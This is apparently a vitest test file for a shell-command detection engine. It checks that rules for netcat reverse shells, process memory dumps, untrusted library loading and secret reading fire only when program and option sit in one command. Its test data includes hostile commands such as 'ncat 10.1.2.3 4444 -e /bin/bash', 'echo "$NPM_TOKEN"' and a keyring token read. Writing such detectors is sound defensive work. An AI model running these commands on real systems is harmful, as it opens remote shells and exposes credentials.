// A program and its arguments judged on one command (2026-12-06). Rules that look at a whole line at once
// (`scope: event`) read `cmd.prog` and `cmd.args` over every command of it, so a program on one command and an
// option on another made a match: `nc -z host 22 && ls -c` was a netcat reverse shell. Their program-and-argument
// tests now hold of one command (`same:`). Spellings written after the change.
import { describe, expect, it } from 'vitest';
import { rulesOfCommand } from './replay.js';

describe('a program here, an option there', () => {
  it.each([
    ['netcat probing, then ls with -c', 'nc -z -w2 10.1.2.3 22 && ls -c /srv', 'reverse-shell-netcat'],
    ['a core file opened, then ps -p', 'gdb -q ./server core.4711 -batch -ex bt; ps -p 4711', 'process-memory-dump'],
    ['the loader cache listed, then tar -f', 'ldconfig -p | grep libcrypto && tar -tf vendor.tar', 'library-load-untrusted'],
    ['a token variable given to ls, then echo', 'ls "$NPM_TOKEN"; echo done', 'env-secret-dump'],
    ['ps of one pid, then grep -e', "ps -o pid,cmd -p 99 | grep -e node", 'env-secret-dump'],
    ['keyring listed, then grep get', 'keyring --list-backends | grep -c get', 'keyring-secret-read'],
  ])('%s', (_name, command, rule) => {
    expect(rulesOfCommand(command)).not.toContain(rule);
  });

  it.each([
    ['netcat running a shell', 'ncat 10.1.2.3 4444 -e /bin/bash', 'reverse-shell-netcat'],
    ['gdb attached by pid', 'sudo gdb -batch -p 4711 -ex "gcore /tmp/m"', 'process-memory-dump'],
    ['a library from /tmp loaded by an option', 'openssl speed -engine /tmp/e.so', 'library-load-untrusted'],
    ['a token echoed', 'echo "$NPM_TOKEN"', 'env-secret-dump'],
    ['every environment with ps', 'ps eww -o pid,args', 'env-secret-dump'],
    ['a password from the keyring', 'keyring get pypi.org __token__', 'keyring-secret-read'],
  ])('%s is still found', (_name, command, rule) => {
    expect(rulesOfCommand(command)).toContain(rule);
  });

  it.each(['printenv | wc -l', 'echo "$ANTHROPIC_API_KEY" | wc -c'])('%s counts, prints nothing', (command) => {
    expect(rulesOfCommand(command)).not.toContain('env-secret-dump');
  });
});
